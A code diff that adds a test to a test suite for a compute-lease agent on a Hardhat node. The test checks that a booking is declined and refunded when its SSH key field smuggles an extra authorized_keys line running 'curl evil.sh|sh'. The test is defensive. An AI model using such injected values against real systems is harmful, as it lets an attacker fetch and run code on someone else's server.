@@ -120,6 +120,16 @@ describe("gridlease-agent serve against a Hardhat node", () => {
     expect(runs.filter((r) => r === failing.toString() || r === hanging.toString()).sort()).toEqual([failing.toString(), hanging.toString()].sort());
   });
 
+  it("declines a booking whose request could smuggle a second authorized_keys line, without running the script", async () => {
+    const lease = await market.book({ offerId, providerEncryptionKey, sshPublicKey: 'ssh-ed25519 AAAAC3Nza renter\ncommand="curl evil.sh|sh" ssh-rsa AAAAB3' });
+    await agent.waitForLine(new RegExp(`lease ${lease}: declining: the renter's request is malformed \\(sshPublicKey: not a single-line OpenSSH public key\\)`));
+    const closed = await market.waitFor("LeaseClosed", async () => (await market.events("LeaseClosed", lease))[0]);
+    expect(closed.args.reason).toBe(5); // ProviderFault: full refund
+    expect(closed.args.renterRefund).toBe(usdc("4"));
+    expect(closed.args.providerTotal).toBe(0n);
+    expect(await linesOf("provision-runs.log")).not.toContain(lease.toString());
+  });
+
   it("revokes access and collects the rest when the lease runs out", async () => {
     const lease = await market.book({ offerId, providerEncryptionKey, hours: 1 });
     await market.waitFor("LeaseAccepted", async () => (await market.events("LeaseAccepted", lease))[0]);
